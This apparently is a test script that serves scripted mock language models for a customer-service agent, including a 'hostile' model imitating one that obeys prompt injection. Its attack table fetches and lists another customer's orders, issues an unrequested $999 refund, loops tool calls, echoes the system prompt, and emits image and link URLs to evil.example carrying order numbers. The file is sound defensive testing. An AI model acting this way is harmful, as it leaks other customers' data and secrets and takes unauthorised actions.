// Language models that answer by a script, behind OpenAI's chat completions: node test/scripted-models.mjs NAME [FILE]
//
// oracle   knows every answer: those of FILE, by what it is asked
// sloppy   means well and writes badly: prose around JSON, invented names, numbers as text, nothing at all
// hostile  does whatever the last message's #word asks for, as a model does that obeys an injection;
//          the order that it is after is the one in the message, else 1043, which is Ben's
//
// Prints its address as one line of JSON. GET /__aimock/journal tells what was asked.
import { readFileSync } from 'node:fs';
import { LLMock } from '@copilotkit/aimock';

const [name, file] = process.argv.slice(2);

function about(request) {
  const system = request.messages[0].content;
  const said = request.messages.filter((message) => message.role === 'user').at(-1).content;
  const since = request.messages.slice(
    request.messages.findLastIndex((message) => message.role === 'user') + 1,
  );
  return {
    system,
    said,
    routing: request.response_format !== undefined,
    pending:
      system
        .match(/has just asked for (\w+) of (\w+)/)
        ?.slice(1)
        .join(' of ') ?? '',
    intent: system.match(/customer's intent is (\w+)/)?.[1] ?? '',
    language: system.match(/language of the page is (\w+)/)?.[1] ?? '',
    results: since
      .filter((message) => message.role === 'tool')
      .map((message) => message.content.replaceAll(/<\/?data-\w+>/g, '').trim()),
    names: (request.tools ?? []).map((tool) => tool.function.name),
  };
}

const decision = (intent, fields = {}) => ({
  content: JSON.stringify({ intent, confidence: 0.98, slots: {}, action: 'answer', ...fields }),
});
const call = (tool, args) => ({ toolCalls: [{ name: tool, arguments: JSON.stringify(args) }] });

function oracle() {
  const answers = JSON.parse(readFileSync(file, 'utf8'));
  return (request) => {
    const { said, routing, pending, intent, language, results } = about(request);
    const key = JSON.stringify(
      routing ? ['route', said, pending] : ['reply', said, intent, language, results],
    );
    const content = answers[key];
    return content === undefined
      ? { error: { message: `no answer to ${key}` }, status: 500 }
      : { content };
  };
}

function sloppy() {
  let asked = 0;
  const good = {
    intent: 'order_status',
    confidence: 0.9,
    slots: { order_id: '1042' },
    action: 'call_tool',
  };
  const decisions = [
    `Of course! Here you go:\n\`\`\`json\n${JSON.stringify(good, null, 2)}\n\`\`\`\nHope that helps.`,
    JSON.stringify({
      ...good,
      intent: 'Order Status',
      confidence: '0.9',
      slots: null,
      mood: 'sunny',
    }),
    JSON.stringify({ ...good, intent: 'where_is_it' }),
    '{"intent": "order_status", "confidence": 0.9, "slots": {"order_id":',
    'order_status',
    JSON.stringify({ intent: 'order_status' }),
    JSON.stringify({ ...good, slots: { order_id: 1042, colour: ['red'] }, action: 'LOOK_UP' }),
    '{}',
    '[]',
  ];
  const replies = [
    () => call('get_order', { order_id: 1042, verbose: 'yes' }),
    () => call('getOrder', { id: '1042' }),
    () => call('get_order', {}),
    () => call('knowledge_search', { query: 'shipping', top_k: '3' }),
    () => ({ toolCalls: [{ name: 'get_order', arguments: '{order_id: 1042' }] }),
    () => ({ content: 'Let me see.' }),
    () => ({ content: 'Here is what I know [1] [7] [99].' }),
  ];
  return (request) => {
    const { routing } = about(request);
    asked += 1;
    return routing
      ? { content: decisions[asked % decisions.length] }
      : replies[asked % replies.length]();
  };
}

function hostile() {
  const promises = file ? readFileSync(file, 'utf8').split('\n').filter(Boolean) : [];
  const wanted = (said) => said.match(/\b\d{4}\b/)?.[0] ?? '1043';
  const attacks = {
    foreign: ({ said }) => call('get_order', { order_id: wanted(said) }),
    dressed: ({ said }) =>
      call('get_order', {
        order_id: `#${wanted(said)} `,
        customer_id: 'cus_ben',
        email: 'ben@example.com',
      }),
    listed: () => call('list_my_orders', { customer_id: 'cus_ben', limit: 1000 }),
    invented: () => call('issue_refund', { order_id: '1042', amount: 999 }),
    loop: () => call('knowledge_search', { query: 'again' }),
    circle: ({ results }) => call('knowledge_search', { query: `again ${results.length}` }),
    links: () => ({
      content:
        'Look: ![x](https://evil.example/p.png?order=1042) [here](https://evil.example/?q=1042) ' +
        "<img src='https://evil.example/a'> https://evil.example/b www.evil.example/c",
    }),
    leak: ({ system }) => ({ content: system }),
    mute: () => ({ content: ' ' }),
    promise: ({ said }) => ({
      content: `Thank you. ${promises[Number(said.match(/promise (\d+)/)[1])]}`,
    }),
  };
  return (request) => {
    const asked = about(request);
    const attack = asked.said.match(/#(\w+)/)?.[1] ?? 'loop';
    const slots = { order_id: '1043', email: 'ben@example.com', customer_id: 'cus_ben' };
    return asked.routing
      ? decision('feedback', { slots, action: 'call_tool' })
      : attacks[attack](asked);
  };
}

const mock = new LLMock({ port: 0, chunkSize: 12, journalMaxEntries: 0 });
mock.on({}, { oracle, sloppy, hostile }[name]());
await mock.start();
process.stdout.write(`${JSON.stringify({ url: mock.url })}\n`);
process.stdin.resume();
process.stdin.on('end', () => process.exit());
